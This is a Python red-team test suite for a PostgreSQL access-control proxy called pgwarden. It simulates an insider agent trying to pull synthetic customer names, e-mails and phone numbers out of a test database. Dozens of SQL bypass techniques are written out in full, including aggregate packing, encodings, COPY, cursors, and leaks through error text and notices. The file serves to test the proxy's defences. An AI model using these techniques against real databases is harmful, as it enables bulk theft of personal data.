"""Adversarial suite: an insider with genuine access tries to take the customer list out of
the second test database (``tests/seconddb``) through pgwarden, by every channel a client
sees -- result rows, error text, notices, notification payloads -- and an honest agent does
normal work beside it.

Written from the README and the policy documentation only. Every figure is counted on the
client side: a customer "reached the client" when one of their names, e-mails or phone
numbers (as the generator wrote them) occurs in anything the client received, also
reversed, case-folded, or after the technique's own decoding. pgwarden's audit trail is
not consulted.

    python -m loadtests.redteam [--only NAME,NAME] [--variants search_path,qualified,app]
                                [--json FILE] [--learn-helpdesk FILE]

prints one line per technique and, as the last line, ``name=value`` figures.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import binascii
import contextlib
import json
import re
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psycopg
import yaml
from psycopg import sql as _sql  # noqa: F401 (kept for techniques written by hand)

from policy import enduser
from proxy.sandbox.cluster import Cluster, running_cluster
from tests.proxyutil import ProxyProcess, pgwarden_command
from tests.seconddb import data as sdb

ATTACKER = "agent_ann"  # the insider: a real agent with real tickets
STATEMENT_LIMIT = 20  # the policy's per-statement limit
HOURLY_BUDGET = 200  # the policy's hourly distinct-records budget
N_ALL = sdb.CUSTOMERS + sdb.LEGACY
HANG_SECONDS = 40.0  # a statement with no answer for this long is a hang


# --- what the client received ---------------------------------------------------------------


@dataclass
class Outcome:
    """What one technique got, counted by the client."""

    name: str
    channel: str
    per_channel: dict[str, set[int]] = field(default_factory=dict)
    per_statement: dict[int, set[int]] = field(default_factory=dict)
    statements: int = 0
    refused: int = 0
    errors: int = 0
    internal_errors: list[str] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    error_samples: list[str] = field(default_factory=list)
    ntk: set[int] = field(default_factory=set)
    analyst: bool = False
    variant: str = "search_path"
    first_refusal: str = ""  # the rule that refused first ("blocked by rule X")
    through_app: bool = False  # the "app" variant connected as the helpdesk account

    @property
    def customers(self) -> set[int]:
        out: set[int] = set()
        for s in self.per_channel.values():
            out |= s
        return out

    @property
    def outside(self) -> set[int]:
        return self.customers - self.ntk

    @property
    def max_per_statement(self) -> int:
        return max((len(s) for s in self.per_statement.values()), default=0)

    def violations(self) -> list[str]:
        """The project's "done when" invariants this outcome breaks."""
        out = []
        n = len(self.customers)
        if self.analyst:
            if n:
                out.append(f"{n} customers reached the analyst unmasked")
        else:
            if self.max_per_statement > STATEMENT_LIMIT:
                out.append(
                    f"{self.max_per_statement} customers in one statement (limit {STATEMENT_LIMIT})"
                )
            if n > HOURLY_BUDGET:
                out.append(f"{n} distinct customers (budget {HOURLY_BUDGET})")
            if self.outside:
                out.append(f"{len(self.outside)} outside need-to-know")
        if self.internal_errors:
            out.append(f"internal error: {self.internal_errors[0][:120]}")
        return out

    def summary(self) -> dict[str, Any]:
        return {
            "technique": self.name,
            "channel": self.channel,
            "customers": len(self.customers),
            "by_channel": {k: len(v) for k, v in self.per_channel.items() if v},
            "max_per_statement": self.max_per_statement,
            "outside_need_to_know": len(self.outside),
            "canaries": len(self.customers & set(sdb.CANARY_IDS)),
            "statements": self.statements,
            "refused": self.refused,
            "errors": self.errors,
            "internal_errors": self.internal_errors,
            "violations": self.violations(),
            "notes": self.notes,
            "error_samples": self.error_samples,
        }


class Refused(Exception):
    pass


class Ctx:
    """One technique's view: connections through the proxy and the client-side counts."""

    def __init__(self, env: Env, proxy: ProxyProcess, outcome: Outcome) -> None:
        self.env = env
        self.proxy = proxy
        self.out = outcome
        self.stmt = 0
        self.decode: Callable[[str], str] | None = None
        self.last_refused = False
        self.qualify = outcome.variant == "qualified"
        # The "app" variant: the insider at a SQL console with the helpdesk account's
        # password and a name the application signed for them (their own, as a colleague's
        # would be refused): what an allow-list of the helpdesk's statement shapes is for.
        self.app = outcome.variant == "app"
        self._signed = (
            enduser.sign(sdb.END_USER_KEY.read_bytes().strip(), ATTACKER, ttl_s=3600)
            if self.app
            else ""
        )
        self._conns: list[Any] = []

    # -- recording ---------------------------------------------------------------------

    def seen(self, channel: str, text: str, stmt: int | None = None) -> set[int]:
        if self.decode is not None:
            text = text + "\n" + self.decode(text)
        found = self.env.matcher.customers_in(text)
        if found:
            self.out.per_channel.setdefault(channel, set()).update(found)
            self.out.per_statement.setdefault(self.stmt if stmt is None else stmt, set()).update(
                found
            )
        return found

    def _error(self, exc: BaseException, conn: Any = None) -> None:
        self.out.errors += 1
        sqlstate = getattr(exc, "sqlstate", None)
        diag = getattr(exc, "diag", None)
        parts = [str(exc)]
        if diag is not None:
            parts += [diag.message_detail or "", diag.message_hint or "", diag.context or ""]
        for attr in ("detail", "hint", "context"):  # asyncpg
            v = getattr(exc, attr, None)
            if isinstance(v, str):
                parts.append(v)
        text = "\n".join(parts)
        self.seen("error", text)
        if len(self.out.error_samples) < 4:
            self.out.error_samples.append(f"{sqlstate}: {str(exc).strip()[:240]}")
        if sqlstate == "42501" and "pgwarden" in text:
            self.out.refused += 1
            self.last_refused = True
            if not self.out.first_refusal:
                m = re.search(r"blocked by rule (\S+?):", text)
                self.out.first_refusal = m.group(1) if m else "?"
            return
        if (sqlstate or "").startswith("XX") or "internal error" in text:
            self.out.internal_errors.append(f"{sqlstate}: {str(exc).strip()[:200]}")
            return
        if sqlstate is None and isinstance(
            exc, (psycopg.OperationalError, ConnectionError, OSError, EOFError)
        ):
            self.out.internal_errors.append(f"connection lost: {str(exc).strip()[:200]}")
            return
        if (
            type(exc).__name__ in ("ConnectionDoesNotExistError", "InterfaceError")
            and sqlstate is None
        ):
            self.out.internal_errors.append(f"connection lost: {type(exc).__name__}: {exc}")

    # -- psycopg -------------------------------------------------------------------------

    def dsn(self, user: str = ATTACKER, **extra: str) -> str:
        extra.setdefault("options", "'-c statement_timeout=30000'")
        if self.app and user == ATTACKER:
            user = sdb.APP_USER
            self.out.through_app = True
        return self.proxy.dsn(user, database=sdb.DBNAME, password=sdb.PASSWORD, **extra)

    def connect(
        self, user: str = ATTACKER, autocommit: bool = True, **extra: str
    ) -> psycopg.Connection:
        conn = psycopg.connect(self.dsn(user, **extra), autocommit=autocommit)

        def on_notice(d: psycopg.errors.Diagnostic) -> None:
            parts = [d.message_primary, d.message_detail, d.message_hint, d.context]
            self.seen("notice", "\n".join(p for p in parts if p))

        def on_notify(n: psycopg.Notify) -> None:
            self.seen("notify", n.payload)

        conn.add_notice_handler(on_notice)
        conn.add_notify_handler(on_notify)
        self._conns.append(conn)
        return conn

    def q(
        self,
        conn: psycopg.Connection,
        query: str,
        params: Any = None,
        channel: str = "rows",
        prepare: bool | None = None,
        binary: bool = False,
    ) -> list[tuple[Any, ...]] | None:
        """Run one statement; count what came back; None when it failed."""
        self.stmt += 1
        self.out.statements += 1
        self.last_refused = False
        query = self.sql(query)
        dog = self.watchdog(conn)
        try:
            with conn.cursor(binary=binary) as cur:
                cur.execute(query, params, prepare=prepare)
                rows: list[tuple[Any, ...]] = []
                while True:  # one result per statement of a multi-statement string
                    if cur.description:
                        part = cur.fetchall()
                        self.seen(channel, sdb.dump_io(part))
                        rows += part
                    if not cur.nextset():
                        break
                    self.stmt += 1
        except psycopg.Error as exc:
            dog.cancel()
            self._error(exc, conn)
            if conn.closed:
                raise Refused("connection closed") from exc
            if (
                not conn.autocommit
                and conn.info.transaction_status == psycopg.pq.TransactionStatus.INERROR
            ):
                conn.rollback()
            return None
        finally:
            dog.cancel()
        return rows

    def sql(self, query: str) -> str:
        """The statement as sent: in the ``qualified`` variant every crm name gets its schema
        (so a miss there is not about the role's search_path)."""
        if self.app:
            return f"/* end_user='{self._signed}' */ {query}"
        return _qualify(query) if self.qualify else query

    def watchdog(self, conn: Any, seconds: float = HANG_SECONDS) -> threading.Timer:
        """A client-side timeout: a statement hanging longer than ``seconds`` is a hang
        (recorded as an internal error); the connection is cancelled, then closed."""

        def fire() -> None:
            self.out.internal_errors.append(
                f"hang: no answer within {seconds:.0f} s (statement {self.stmt})"
            )
            with contextlib.suppress(Exception):
                conn.cancel_safe(timeout=3)
            time.sleep(3)
            with contextlib.suppress(Exception):
                conn.pgconn.finish()

        t = threading.Timer(seconds, fire)
        t.daemon = True
        t.start()
        return t

    def close(self) -> None:
        for c in self._conns:
            with contextlib.suppress(Exception):
                c.close()


_CRM_NAMES = (
    "legacy_customers|customer_phones_mobile|customer_phones|customer_directory|customers|"
    'ticket_messages|agents|products|search_customers|ticket_customer|"Tickets"|"ContactSheet"'
)
_CRM_RE = re.compile(r'(?<![.\w"])(' + _CRM_NAMES + r")(?=[\s(),;]|$)")


def _qualify(query: str) -> str:
    return _CRM_RE.sub(r"crm.\1", query)


VARIANTS = ("search_path", "qualified", "app")

# --- the techniques --------------------------------------------------------------------------

TECHNIQUES: dict[str, tuple[str, Callable[[Ctx], None]]] = {}


def technique(channel: str) -> Callable[[Callable[[Ctx], None]], Callable[[Ctx], None]]:
    def reg(fn: Callable[[Ctx], None]) -> Callable[[Ctx], None]:
        TECHNIQUES[fn.__name__.removeprefix("t_")] = (channel, fn)
        return fn

    return reg


def _stop_after(ctx: Ctx, streak: list[int], ok: bool = True, limit: int = 8) -> bool:
    """True once ``limit`` statements in a row were refused by pgwarden (the subject is
    quarantined or over budget: stop wasting time). ``ok`` is ignored (kept for readability)."""
    streak[0] = 0 if not ctx.last_refused else streak[0] + 1
    return streak[0] >= limit


ALL = "customer_id > 0"


@technique("rows")
def t_select_star(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "SELECT * FROM customers")
    ctx.q(c, f"SELECT * FROM customers WHERE {ALL} LIMIT 5000")


@technique("rows")
def t_plain_columns(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, f'SELECT customer_id, "FullName", "Email" FROM customers WHERE {ALL}')


@technique("rows")
def t_no_key_column(ctx: Ctx) -> None:
    """Need-to-know wants the key column in the result: leave it out."""
    c = ctx.connect()
    for a in range(1, N_ALL, 15):
        ctx.q(
            c,
            f'SELECT "FullName", "Email" FROM customers WHERE customer_id BETWEEN {a} AND {a + 14}',
        )


@technique("rows")
def t_key_spoof(ctx: Ctx) -> None:
    """Every row carries the key of one customer the agent may see, with another's data."""
    mine = min(ctx.env.ds.need_to_know(ATTACKER))
    c = ctx.connect()
    streak = [0]
    for a in range(1, N_ALL, 15):
        r = ctx.q(c, f'SELECT {mine}::bigint AS customer_id, "FullName", "Email" FROM customers '
                     f"WHERE customer_id BETWEEN {a} AND {a + 14}")  # fmt: skip
        if _stop_after(ctx, streak, r is not None):
            break


@technique("rows")
def t_row_to_json(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, f"SELECT row_to_json(c) FROM customers c WHERE {ALL}")
    ctx.q(c, f"SELECT c.customer_id, to_jsonb(c)::text FROM customers c WHERE {ALL}")


@technique("rows")
def t_packing_aggregates(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, f'SELECT json_agg("Email") FROM customers WHERE {ALL}')
    ctx.q(c, f"SELECT string_agg(\"Email\" || ' ' || \"FullName\", ',') FROM customers WHERE {ALL}")
    ctx.q(c, f'SELECT array_agg("Email") FROM customers WHERE {ALL}')
    ctx.q(c, f'SELECT xmlagg(xmlelement(name e, "Email")) FROM customers WHERE {ALL}')
    ctx.q(c, f'SELECT jsonb_object_agg(customer_id, "Email") FROM customers WHERE {ALL}')


@technique("rows")
def t_array_sublink(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, f'SELECT ARRAY(SELECT "Email" FROM customers WHERE {ALL})')
    ctx.q(c, f"SELECT array_to_string(ARRAY(SELECT \"FullName\" FROM customers WHERE {ALL}), ';')")


@technique("rows")
def t_scalar_sublinks(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(
        c,
        f'SELECT g, (SELECT "Email" FROM customers WHERE customer_id = g) FROM generate_series(1, {N_ALL}) g',
    )
    cols = ", ".join(
        f'(SELECT "Email" FROM customers WHERE customer_id = g * 40 + {k})' for k in range(40)
    )
    ctx.q(c, f"SELECT g, {cols} FROM generate_series(0, 19) g")


@technique("rows")
def t_window_lead(ctx: Ctx) -> None:
    """20 rows, each carrying the e-mails of 165 other rows through lead()."""
    c = ctx.connect()
    cols = ", ".join(f'lead("Email", {20 * k}) OVER w' for k in range(N_ALL // 20 + 1))
    ctx.q(c, f"SELECT customer_id, {cols} FROM customers WHERE {ALL} WINDOW w AS (ORDER BY customer_id) "
             "ORDER BY customer_id LIMIT 20")  # fmt: skip


@technique("rows")
def t_recursive_cte(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, 'WITH RECURSIVE r(id, v) AS (SELECT customer_id, "Email" FROM customers WHERE customer_id = 1 '
             'UNION ALL SELECT c.customer_id, c."Email" FROM customers c JOIN r ON c.customer_id = r.id + 1) '
             "SELECT id, v FROM r")  # fmt: skip
    ctx.q(c, "WITH RECURSIVE r(id, acc) AS (SELECT 0, ''::text UNION ALL SELECT r.id + 1, r.acc || ',' || "
             'coalesce((SELECT "Email" FROM customers WHERE customer_id = r.id + 1), \'\') FROM r WHERE r.id < 600) '
             "SELECT acc FROM r ORDER BY id DESC LIMIT 1")  # fmt: skip


@technique("rows")
def t_percentile_disc(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, f"SELECT percentile_disc(ARRAY(SELECT g::float8 / {N_ALL} FROM generate_series(0, {N_ALL}) g)) "
             f'WITHIN GROUP (ORDER BY "Email") FROM customers WHERE {ALL}')  # fmt: skip
    ctx.q(
        c,
        f'SELECT mode() WITHIN GROUP (ORDER BY "Email"), min("FullName"), max("Email") FROM customers WHERE {ALL}',
    )


@technique("rows")
def t_union_all(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "SELECT 0::bigint, name FROM products UNION ALL "
             f'SELECT customer_id, "Email" FROM customers WHERE {ALL}')  # fmt: skip
    ctx.q(c, f"SELECT customer_id, 'x' FROM customers WHERE customer_id < 0 UNION ALL "
             f'SELECT 1::bigint, "Email" FROM customers WHERE {ALL}')  # fmt: skip


@technique("rows")
def t_expression_tricks(ctx: Ctx) -> None:
    c = ctx.connect()
    for expr in ("lower(\"Email\") || ''", 'reverse("Email")', "format('%s', c)", '"FullName"::varchar(200)',
                 "upper(\"FullName\") || ' <' || \"Email\" || '>'", "translate(\"Email\", '@', '#')",
                 "concat_ws('|', \"FullName\", \"Email\")", 'c::text'):  # fmt: skip
        ctx.q(c, f"SELECT customer_id, {expr} FROM customers c WHERE {ALL}")


@technique("rows")
def t_encodings(ctx: Ctx) -> None:
    def dec(text: str) -> str:
        out = []
        for h in re.findall(r"\\x([0-9a-f]+)|'([0-9a-f]{16,})'", text):
            with contextlib.suppress(binascii.Error, ValueError):
                out.append(binascii.unhexlify(h[0] or h[1]).decode(errors="replace"))
        for b in re.findall(r"'([A-Za-z0-9+/=\\n]{16,})'", text):
            with contextlib.suppress(binascii.Error, ValueError):
                out.append(base64.b64decode(b.replace("\\n", "")).decode(errors="replace"))
        return "\n".join(out)

    ctx.decode = dec
    c = ctx.connect()
    ctx.q(c, f"SELECT customer_id, convert_to(\"Email\", 'UTF8') FROM customers WHERE {ALL}")
    ctx.q(
        c,
        f"SELECT customer_id, encode(convert_to(\"Email\", 'UTF8'), 'base64') FROM customers WHERE {ALL}",
    )
    ctx.q(
        c,
        f"SELECT customer_id, encode(convert_to(\"FullName\", 'UTF8'), 'hex') FROM customers WHERE {ALL}",
    )


@technique("rows")
def t_lateral_values(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(
        c,
        f'SELECT c.customer_id, v FROM customers c, LATERAL (VALUES (c."Email"), (c."FullName")) x(v) WHERE c.{ALL}',
    )
    ctx.q(
        c,
        'WITH x AS (SELECT customer_id AS k, "Email" AS note FROM customers) SELECT k, note FROM x WHERE k > 0',
    )
    ctx.q(
        c,
        f'SELECT customer_id, CASE WHEN customer_id > 0 THEN "Email" END FROM customers WHERE {ALL}',
    )


@technique("rows")
def t_views(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, 'SELECT customer_id, "Name", "Mail", "Tel" FROM "ContactSheet" WHERE customer_id > 0')
    ctx.q(
        c,
        'CREATE VIEW scratch.v_mine AS SELECT customer_id AS id, "Email" AS e, "FullName" AS n FROM customers',
    )
    ctx.q(c, "SELECT id, e, n FROM scratch.v_mine WHERE id > 0")


@technique("rows")
def t_materialized_view(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(
        c,
        "SELECT customer_id, full_name, email, phone FROM customer_directory WHERE customer_id > 0",
    )
    ctx.q(
        c,
        'CREATE MATERIALIZED VIEW scratch.mv_mine AS SELECT customer_id AS id, "Email" AS e FROM customers',
    )
    ctx.q(c, "SELECT id, e FROM scratch.mv_mine WHERE id > 0")


@technique("rows")
def t_security_definer(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "SELECT * FROM search_customers('%')")
    ctx.q(c, "SELECT name, email, phone FROM search_customers('%@%')")
    ctx.q(c, 'SELECT (ticket_customer(t."TicketNo")).* FROM "Tickets" t WHERE t.ticket_id > 0')


@technique("rows")
def t_jsonb_paths(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, f"SELECT customer_id, profile->'contact'->>'email', profile #>> '{{contact,phone}}', profile->>'name' "
             f"FROM customers WHERE {ALL}")  # fmt: skip
    ctx.q(
        c,
        f"SELECT customer_id, jsonb_path_query(profile, '$.contact.email') FROM customers WHERE {ALL}",
    )
    ctx.q(c, f"SELECT customer_id, profile::text FROM customers WHERE {ALL}")


@technique("rows")
def t_composite_and_array(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(
        c, f"SELECT customer_id, (card).email, (card).name, (card).phone FROM customers WHERE {ALL}"
    )
    ctx.q(c, f"SELECT customer_id, card FROM customers WHERE {ALL}")
    ctx.q(c, f"SELECT customer_id, alt_phones[1] FROM customers WHERE {ALL}")
    ctx.q(c, f"SELECT customer_id, unnest(alt_phones) FROM customers WHERE {ALL}")


@technique("rows")
def t_partition_and_child(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "SELECT customer_id, phone FROM customer_phones_mobile WHERE customer_id > 0")
    ctx.q(c, "SELECT customer_id, phone FROM customer_phones WHERE customer_id > 0")
    ctx.q(c, 'SELECT customer_id, "Email", "FullName" FROM legacy_customers WHERE customer_id > 0')
    ctx.q(c, 'SELECT customer_id, "Email" FROM ONLY customers WHERE customer_id > 0')


@technique("rows")
def t_sql_cursor(ctx: Ctx) -> None:
    c = ctx.connect(autocommit=False)
    ctx.q(
        c,
        f'DECLARE cur CURSOR FOR SELECT customer_id, "Email", "FullName" FROM customers WHERE {ALL}',
    )
    streak = [0]
    for _ in range(N_ALL // 15 + 1):
        r = ctx.q(c, "FETCH 15 FROM cur")
        if r == [] or _stop_after(ctx, streak, r is not None, 3):
            break
        if r is None:
            ctx.q(
                c,
                f'DECLARE cur CURSOR FOR SELECT customer_id, "Email", "FullName" FROM customers WHERE {ALL}',
            )
    c.rollback()


@technique("rows")
def t_server_cursor_psycopg(ctx: Ctx) -> None:
    c = ctx.connect(autocommit=False)
    ctx.stmt += 1
    ctx.out.statements += 1
    got: list[tuple[Any, ...]] = []
    dog = ctx.watchdog(c)
    try:
        with c.cursor(name="leak") as cur:
            cur.itersize = 10
            cur.execute(
                ctx.sql(f'SELECT customer_id, "Email", "FullName" FROM customers WHERE {ALL}')
            )
            for row in cur:
                got.append(row)
    except psycopg.Error as exc:
        ctx._error(exc)
    finally:
        dog.cancel()
    ctx.seen("rows", sdb.dump_io(got))


@technique("rows")
def t_prepared_paging(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, 'PREPARE p(bigint) AS SELECT customer_id, "Email", "FullName" FROM customers '
             "WHERE customer_id BETWEEN $1 AND $1 + 14")  # fmt: skip
    streak = [0]
    for a in range(1, N_ALL, 15):
        r = ctx.q(c, f"EXECUTE p({a})")
        if _stop_after(ctx, streak, r is not None):
            break


@technique("rows")
def t_copy_to_stdout(ctx: Ctx) -> None:
    c = ctx.connect()
    for q in ('COPY (SELECT customer_id, "Email", "FullName" FROM customers) TO STDOUT',
              "COPY customers TO STDOUT",
              "COPY customer_phones_mobile TO STDOUT WITH (FORMAT csv)",
              "COPY (SELECT customer_id, profile FROM customers WHERE customer_id > 0) TO STDOUT WITH (FORMAT binary)"):  # fmt: skip
        ctx.stmt += 1
        ctx.out.statements += 1
        buf = bytearray()
        dog = ctx.watchdog(c)
        try:
            with c.cursor() as cur, cur.copy(ctx.sql(q)) as cp:
                for chunk in cp:
                    buf += chunk
        except psycopg.Error as exc:
            ctx._error(exc)
            if c.closed:
                break
        finally:
            dog.cancel()
        ctx.seen("copy", buf.decode(errors="replace"))


@technique("rows")
def t_psql_copy(ctx: Ctx) -> None:
    """psql as the client: \\copy, then a plain SELECT, each in its own psql run."""
    psql = str(ctx.env.pg.bindir / "psql")
    env = {"PGPASSWORD": sdb.PASSWORD, "PGSSLMODE": "disable", "PATH": "/usr/bin:/bin"}
    for script in ('\\copy (SELECT customer_id, "Email" FROM customers WHERE customer_id > 0) TO STDOUT\n',
                   'SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id > 0;\n'):  # fmt: skip
        ctx.stmt += 1
        ctx.out.statements += 1
        p = subprocess.run(
            [psql, "-X", "-At", "-h", ctx.proxy.host, "-p", str(ctx.proxy.port), "-U", ATTACKER,
             "-d", sdb.DBNAME],
            input=ctx.sql(script), capture_output=True, text=True, env=env, timeout=60, check=False,
        )  # fmt: skip
        ctx.seen("copy" if "copy" in script else "rows", p.stdout)
        ctx.seen("error", p.stderr)
        ctx.out.refused += p.stderr.count("pgwarden: blocked")
        if "XX000" in p.stderr or "server closed the connection" in p.stderr:
            ctx.out.internal_errors.append(p.stderr.strip()[:200])


@technique("rows")
def t_temp_table(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(
        c,
        'CREATE TEMP TABLE loot AS SELECT customer_id AS id, "Email" AS e, "FullName" AS n FROM customers',
    )
    ctx.q(c, "SELECT id, e, n FROM loot WHERE id > 0")
    ctx.q(c, "SELECT string_agg(e, ',') FROM loot")


@technique("rows")
def t_create_table_as(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(
        c,
        'CREATE TABLE scratch.loot_ctas AS SELECT customer_id AS id, "Email" AS e, "FullName" AS n FROM customers',
    )
    ctx.q(c, "SELECT id, e, n FROM scratch.loot_ctas WHERE id > 0")


@technique("rows")
def t_insert_select(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "CREATE TABLE scratch.bag (id bigint, v text)")
    ctx.q(
        c,
        'INSERT INTO scratch.bag SELECT customer_id, "Email" || \' \' || "FullName" FROM customers',
    )
    ctx.q(c, "INSERT INTO scratch.bag SELECT customer_id, phone FROM customer_phones")
    ctx.q(c, "SELECT id, v FROM scratch.bag WHERE id > 0")
    ctx.q(c, 'INSERT INTO scratch.bag SELECT customer_id, "Email" FROM customers RETURNING id, v')


@technique("rows")
def t_offset_paging(ctx: Ctx) -> None:
    c = ctx.connect()
    streak = [0]
    for off in range(0, N_ALL, 15):
        r = ctx.q(c, f'SELECT customer_id, "FullName", "Email" FROM customers WHERE {ALL} '
                     f"ORDER BY customer_id LIMIT 15 OFFSET {off}")  # fmt: skip
        if _stop_after(ctx, streak, r is not None):
            break


@technique("rows")
def t_trickle(ctx: Ctx) -> None:
    c = ctx.connect()
    streak = [0]
    for a in range(1, N_ALL, 5):
        r = ctx.q(
            c,
            f'SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id BETWEEN {a} AND {a + 4}',
        )
        if _stop_after(ctx, streak, r is not None):
            break


@technique("rows")
def t_trickle_own_customers(ctx: Ctx) -> None:
    """Only the agent's own customers, five at a time: all of them, past the hourly budget."""
    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))
    c = ctx.connect()
    streak = [0]
    for i in range(0, len(mine), 5):
        ids = ",".join(map(str, mine[i : i + 5]))
        r = ctx.q(
            c,
            f'SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id IN ({ids})',
        )
        if _stop_after(ctx, streak, r is not None):
            break


@technique("rows")
def t_pipeline_and_multistatement(ctx: Ctx) -> None:
    c = ctx.connect()
    # one simple-query string of many small SELECTs
    parts = [f'SELECT customer_id, "Email" FROM customers WHERE customer_id BETWEEN {a} AND {a + 14}'
             for a in range(1, 600, 15)]  # fmt: skip
    ctx.q(c, ";\n".join(parts))
    # a psycopg pipeline of extended-protocol statements
    ctx.stmt += 1
    got: list[tuple[Any, ...]] = []
    dog = ctx.watchdog(c)
    try:
        with c.pipeline():
            curs = []
            for a in range(600, 1200, 15):
                cur = c.cursor()
                cur.execute(
                    ctx.sql(
                        'SELECT customer_id, "Email" FROM customers WHERE customer_id BETWEEN %s AND %s'
                    ),
                    (a, a + 14),
                )
                curs.append(cur)
        for cur in curs:
            ctx.stmt += 1
            with contextlib.suppress(psycopg.Error):
                part = cur.fetchall()
                ctx.seen("rows", sdb.dump_io(part))
                got += part
    except psycopg.Error as exc:
        ctx._error(exc)
    finally:
        dog.cancel()
    ctx.out.statements += 40


@technique("rows")
def t_asyncpg_binary(ctx: Ctx) -> None:
    async def run() -> None:
        import asyncpg

        conn = await asyncio.wait_for(asyncpg.connect(
            host=ctx.proxy.host, port=ctx.proxy.port, user=ATTACKER, password=sdb.PASSWORD,
            database=sdb.DBNAME, ssl=False), HANG_SECONDS)  # fmt: skip
        try:
            for q, args in (('SELECT customer_id, "Email", "FullName" FROM customers WHERE customer_id > $1', (0,)),
                            ('SELECT customer_id, card, alt_phones, profile FROM customers WHERE customer_id > $1', (0,))):  # fmt: skip
                ctx.stmt += 1
                ctx.out.statements += 1
                try:
                    rows = await asyncio.wait_for(conn.fetch(ctx.sql(q), *args), HANG_SECONDS)
                    ctx.seen("rows", "\n".join(repr(tuple(r)) for r in rows))
                except TimeoutError:
                    ctx.out.internal_errors.append(
                        f"hang: asyncpg fetch had no answer within {HANG_SECONDS:.0f} s"
                    )
                    return
                except Exception as exc:
                    ctx._error(exc)
            ctx.stmt += 1
            ctx.out.statements += 1
            got = []

            async def iterate() -> None:
                async with conn.transaction():
                    async for r in conn.cursor(
                        ctx.sql(
                            'SELECT customer_id, "Email" FROM customers WHERE customer_id > $1'
                        ),
                        0,
                        prefetch=10,
                    ):
                        got.append(tuple(r))

            try:
                await asyncio.wait_for(iterate(), HANG_SECONDS)
            except TimeoutError:
                ctx.out.internal_errors.append(
                    f"hang: asyncpg cursor had no answer within {HANG_SECONDS:.0f} s"
                )
                return
            except Exception as exc:
                ctx._error(exc)
            ctx.seen("rows", "\n".join(map(repr, got)))
        finally:
            conn.terminate()

    asyncio.run(run())


@technique("rows")
def t_binary_psycopg(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(
        c,
        'SELECT customer_id, "Email", "FullName" FROM customers WHERE customer_id > %s',
        (0,),
        binary=True,
    )
    ctx.q(
        c,
        'SELECT customer_id::text, "Email" FROM customers WHERE customer_id > %s',
        (0,),
        binary=True,
    )


# -- error text ----------------------------------------------------------------------------


@technique("error")
def t_error_cast(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(
        c,
        f"SELECT CAST(array_to_string(ARRAY(SELECT \"Email\" FROM customers WHERE {ALL}), ',') AS int)",
    )
    ctx.q(c, f"SELECT (SELECT string_agg(\"FullName\", ',') FROM customers WHERE {ALL})::int")
    ctx.q(c, f'SELECT ("Email" || customer_id)::int FROM customers WHERE {ALL}')
    ctx.q(
        c,
        f"SELECT (profile::text)::jsonb->>'x', (profile->>'name')::int FROM customers WHERE {ALL}",
    )


@technique("error")
def t_error_cast_trickle(ctx: Ctx) -> None:
    """One customer per statement, through the error message of a failed cast."""
    c = ctx.connect()
    streak = [0]
    for cid in range(1, 400):
        ctx.q(
            c,
            f'SELECT ("Email" || \' \' || "FullName")::int FROM customers WHERE customer_id = {cid}',
        )
        if _stop_after(ctx, streak):
            break


@technique("error")
def t_error_unique_violation(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "CREATE TABLE scratch.uniq (v text PRIMARY KEY)")
    ctx.q(
        c,
        f"INSERT INTO scratch.uniq SELECT array_to_string(ARRAY(SELECT \"Email\" FROM customers WHERE {ALL}), ',')",
    )
    ctx.q(
        c,
        f"INSERT INTO scratch.uniq SELECT array_to_string(ARRAY(SELECT \"Email\" FROM customers WHERE {ALL}), ',')",
    )
    ctx.q(c, "CREATE TABLE scratch.uniq2 (v text PRIMARY KEY)")
    for a in range(1, 120):
        ctx.q(c, f'INSERT INTO scratch.uniq2 SELECT "Email" FROM customers WHERE customer_id = {a} '
                 f'UNION ALL SELECT "Email" FROM customers WHERE customer_id = {a}')  # fmt: skip


@technique("error")
def t_error_raise_function(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "CREATE FUNCTION public.boom(text) RETURNS int LANGUAGE plpgsql AS "
             "$$ BEGIN RAISE EXCEPTION '%', $1; END $$")  # fmt: skip
    ctx.q(
        c,
        f"SELECT public.boom(array_to_string(ARRAY(SELECT \"Email\" FROM customers WHERE {ALL}), ','))",
    )
    ctx.q(c, "CREATE FUNCTION public.boom2() RETURNS int LANGUAGE plpgsql AS $$ DECLARE s text; BEGIN "
             "SELECT string_agg(\"Email\" || ' ' || \"FullName\", ',') INTO s FROM crm.customers; "
             "RAISE EXCEPTION 'x' USING DETAIL = s; END $$")  # fmt: skip
    ctx.q(c, "SELECT public.boom2()")


# -- notices and notifications ---------------------------------------------------------------


@technique("notice")
def t_notice_do_block(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "DO $$ DECLARE r record; BEGIN FOR r IN SELECT \"Email\", \"FullName\" FROM crm.customers LOOP "
             "RAISE NOTICE '%', r; END LOOP; END $$")  # fmt: skip
